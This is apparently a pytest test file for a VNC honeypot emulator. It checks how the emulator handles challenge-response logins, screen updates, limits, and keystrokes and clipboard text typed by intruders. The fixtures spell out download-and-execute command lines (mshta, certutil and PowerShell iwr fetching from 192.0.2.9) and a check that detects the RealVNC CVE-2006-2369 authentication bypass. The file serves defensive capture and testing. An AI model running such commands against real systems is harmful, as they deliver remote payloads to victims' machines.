"""A desktop over VNC: the login's evidence, what is seen, and what is typed."""

from __future__ import annotations

import struct

import pytest

from eudaemon.events.catalogue import ChallengeAnswered, CommandEntered, ExploitRecognised, LoginTried
from eudaemon.protocols._base import Claim, Opened
from eudaemon.protocols._desk import KEPT_MAX, LINE_CHARS_MAX, LINES_MAX
from eudaemon.protocols.vnc import Vnc, des
from eudaemon.protocols.vnc.room import CLIPBOARD_BYTES_MAX, ENCODINGS_MAX, MESSAGES_MAX, SENT_BYTES_MAX, password_of
from eudaemon.protocols.vnc.screen import TEXT_CHARS_MAX, Screen, text
from eudaemon.testing.script import START_S, Table, visit
from eudaemon.wire import Purse
from eudaemon.wire.des import encrypt
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed

HOSTS = [Host.from_seed(Seed(b"%d" % number)) for number in range(30)]
OPEN = next(host for host in HOSTS if not host.seed.child("vnc").number("password", 2))
LOCKED = next(host for host in HOSTS if host.seed.child("vnc").number("password", 2))
RETURN, SUPER, CTRL, BACKSPACE = 0xFF0D, 0xFFEB, 0xFFE3, 0xFF08


def talk(host: Host = OPEN, minor: int = 8) -> Table:
    table = Table(Vnc(visit(host=host, port=5900, purse=Purse(32 << 20)))).open()
    table.say(b"RFB 003.%03d\n" % minor)
    return table


def inside() -> Table:
    table = talk()
    table.say(b"\x01")
    table.say(b"\x01")
    return table


def key(code: int, *, down: bool = True) -> bytes:
    return struct.pack(">BBxxI", 4, down, code)


def tap(*codes: int) -> bytes:
    return b"".join(key(code) + key(code, down=False) for code in codes)


def typed(words: str) -> bytes:
    return tap(*map(ord, words))


def lines(table: Table) -> list[str]:
    return [fact.line for fact in table.facts if isinstance(fact, CommandEntered)][1:]


def wants(*, changes: bool = False) -> bytes:
    return struct.pack(">BBHHHH", 3, changes, 0, 0, 65535, 65535)


@pytest.mark.parametrize(("minor", "head", "choice"), [(3, b"\0\0\0\1", b""), (7, b"\1\1", b"\1"), (8, b"\1\1", b"\1")])
@pytest.mark.parametrize("split", [0, 1])
def test_without_a_password(minor: int, head: bytes, choice: bytes, split: int) -> None:
    table = Table(Vnc(visit(host=OPEN))).open()
    assert table.sent == b"RFB 003.008\n"
    assert table.say(b"RFB 003.%03d\n" % minor, split) == head
    if choice:
        assert table.say(choice, split) == (b"\0\0\0\0" if minor == 8 else b"")
    said = table.say(b"\1", split)
    screen = Screen(OPEN)
    assert said[:4] == struct.pack(">HH", screen.width, screen.height)
    assert said.endswith(screen.name.encode())


@pytest.mark.parametrize(("password", "accepted"), [(password_of(LOCKED), True), (b"N0t.l1st", False)])
@pytest.mark.parametrize("minor", [3, 7, 8])
def test_the_answer_to_the_challenge_is_evidence(minor: int, password: bytes, accepted: bool) -> None:
    table = Table(Vnc(visit(host=LOCKED))).open()
    challenge = table.say(b"RFB 003.%03d\n" % minor)
    if minor == 3:
        assert challenge[:4] == b"\0\0\0\2"
        challenge = challenge[4:]
    else:
        assert challenge == b"\1\2"
        challenge = table.say(b"\2")
    answer = des.answer(password, challenge)
    said = table.say(answer)
    assert said[:4] == (b"\0\0\0\0" if accepted else b"\0\0\0\1")
    assert table.over is not accepted
    assert ChallengeAnswered("", "vnc", f"$vnc$*{challenge.hex().upper()}*{answer.hex().upper()}") in table.facts
    assert LoginTried("", password.decode() if accepted else None, accepted) in table.facts


def test_a_desktop_has_one_password() -> None:
    for password in {password_of(host) for host in HOSTS}:
        table = Table(Vnc(visit(host=LOCKED))).open()
        table.say(b"RFB 003.008\n")
        said = table.say(des.answer(password, table.say(b"\2")))
        assert (said[:4] == bytes(4)) is (password == password_of(LOCKED))
        assert [fact.password for fact in table.facts if isinstance(fact, LoginTried)] == [password.decode()]
    assert len({password_of(host) for host in HOSTS}) > 4


def test_who_chooses_what_was_not_offered() -> None:
    table = Table(Vnc(visit(host=LOCKED))).open()
    table.say(b"RFB 003.008\n\1")
    assert ExploitRecognised("realvnc-bypass", "CVE-2006-2369") in table.facts
    assert table.fault


def test_the_cipher() -> None:
    """The classic example of FIPS 46-3, VNC's reversed key, and John's own challenge and response (vnc_fmt_plug.c)."""
    challenge = bytes.fromhex("84076F040550EEA9341967633B5F3855")
    assert des.answer(b"pass1234", challenge).hex().upper() == "DD96D21781A70DA49443279975404DD0"
    assert encrypt(bytes.fromhex("133457799BBCDFF1"), bytes.fromhex("0123456789ABCDEF")).hex() == "85e813540f0ab405"
    assert des.vnc_key(b"password1") == des.vnc_key(b"password") == bytes.fromhex("0e86ceceeef64e26")


@pytest.mark.parametrize("split", [0, 1])
def test_what_is_typed(split: int) -> None:
    table = inside()
    run = key(SUPER) + tap(ord("r")) + key(SUPER, down=False)
    table.say(run + typed("cmd /c mshta http://192.0.2.9/x.htaa") + tap(BACKSPACE, RETURN), split)
    table.say(typed("half") + key(CTRL) + tap(ord("c")), split)
    table.end()
    assert lines(table) == ["cmd /c mshta http://192.0.2.9/x.hta", "half<Ctrl+c>"]
    assert [wish.download.url for wish in table.wishes] == ["http://192.0.2.9/x.hta"]


def test_a_window_is_typed_into() -> None:
    table = inside()
    run = key(SUPER) + tap(ord("r")) + key(SUPER, down=False)
    table.say(typed("notes") + tap(RETURN) + run + typed("cmd") + tap(RETURN) + typed("whoami") + tap(RETURN))
    table.say(typed("certutil -urlcache -f http://192.0.2.9/b.exe b.exe") + tap(RETURN))
    assert [wish.download.url for wish in table.wishes] == ["http://192.0.2.9/b.exe"]
    table.answer("ok", b"MZ")
    table.say(typed("exit") + tap(RETURN) + typed("see http://192.0.2.9/c") + tap(RETURN))
    table.end()
    assert lines(table) == ["notes", "cmd", "whoami", "certutil -urlcache -f http://192.0.2.9/b.exe b.exe", "exit",
                            "see http://192.0.2.9/c"]  # fmt: skip
    assert [keep.data for keep in table.kept if keep.origin == "script"] == [b"see http://192.0.2.9/c"]


def test_the_clipboard() -> None:
    table = inside()
    pasted = b"powershell -c iwr http://192.0.2.9/a"
    table.say(struct.pack(">BxxxI", 6, len(pasted)) + pasted)
    table.say(key(CTRL) + tap(ord("v")) + key(CTRL, down=False) + tap(RETURN))
    assert lines(table) == ["clipboard: " + pasted.decode(), pasted.decode()]


def test_what_is_seen() -> None:
    table = inside()
    screen = Screen(OPEN)
    said = table.say(wants())
    strips = -(-screen.height // 16)
    assert len(said) == 4 + 12 * strips + 4 * screen.width * screen.height
    assert table.say(wants(changes=True)) == b"", "nothing has changed"
    table.say(struct.pack(">BxHii", 2, 2, 2, 0))
    said = table.say(key(SUPER) + tap(ord("r")))
    assert said[:16] == struct.pack(">BxHHHHHi", 0, 1, 0, 0, screen.width, screen.height, 2)
    count = int.from_bytes(said[16:20], "big")
    assert len(said) == 24 + 12 * count
    for at in range(24, len(said), 12):
        x, y, wide, high = struct.unpack_from(">HHHH", said, at + 4)
        assert x + wide <= screen.width
        assert y + high <= screen.height
    table.say(struct.pack(">BxxxBBBBHHHBBBxxx", 0, 8, 8, 0, 1, 7, 7, 3, 0, 3, 6))
    said = table.say(wants())
    assert len(said) == 21 + 9 * int.from_bytes(said[16:20], "big")


def test_no_two_installations_are_alike() -> None:
    pictures = {(str(Screen(host).rectangles(START_S, typed=None)), Screen(host).background) for host in HOSTS}
    assert len(pictures) == len(HOSTS)


def test_who_is_no_client() -> None:
    for data in (b"GET / HTTP/1.1\r\n", b"RFB 004.001\n", b"RFB 003.008\n\x10", b"RFB 003.008\n\1\1\x63"):
        table = Table(Vnc(visit(host=OPEN)))
        table.tell(Opened(START_S))
        table.say(data)
        assert table.fault, data
    table = inside()
    table.say(struct.pack(">BxxxBBBBHHHBBBxxx", 0, 9, 8, 0, 1, 7, 7, 3, 0, 3, 6))
    assert table.fault


def test_limits() -> None:
    for past in (0, 1):
        table = inside()
        table.say(struct.pack(">BxxxI", 6, CLIPBOARD_BYTES_MAX + past))
        assert bool(table.fault) == bool(past)
        table = inside()
        table.say(struct.pack(">BxH", 2, ENCODINGS_MAX + past))
        assert bool(table.fault) == bool(past)
        table = inside()
        table.say((typed("a") + tap(RETURN)) * (LINES_MAX + past))
        assert bool(table.fault) == bool(past)
        table = inside()
        table.say(b"\5\0\0\0\0\0" * (MESSAGES_MAX + past))
        assert bool(table.fault) == bool(past)
        table = inside()
        table.say(typed("a" * (LINE_CHARS_MAX + past)))
        assert len(lines(table)) == past
    table = inside()
    for _ in range(KEPT_MAX + 1):
        table.say(typed("a://") + tap(RETURN))
    assert len(table.kept) == KEPT_MAX
    table = inside()
    screen = Screen(OPEN)
    for _ in range(SENT_BYTES_MAX // (4 * screen.width * screen.height) + 1):
        assert not table.fault
        table.sent = b""
        table.say(wants())
    assert "reads over" in table.fault
    assert len(list(text("l" * TEXT_CHARS_MAX, 0, 0, 0))) == len(list(text("l" * (TEXT_CHARS_MAX + 1), 0, 0, 0)))


def test_whose_conversation_it_is() -> None:
    for first, claim in ((b"R", Claim.UNSURE), (b"RFB 003.008\n", Claim.YES), (b"GET /", Claim.NO)):
        assert Vnc.claim(first) is claim, first
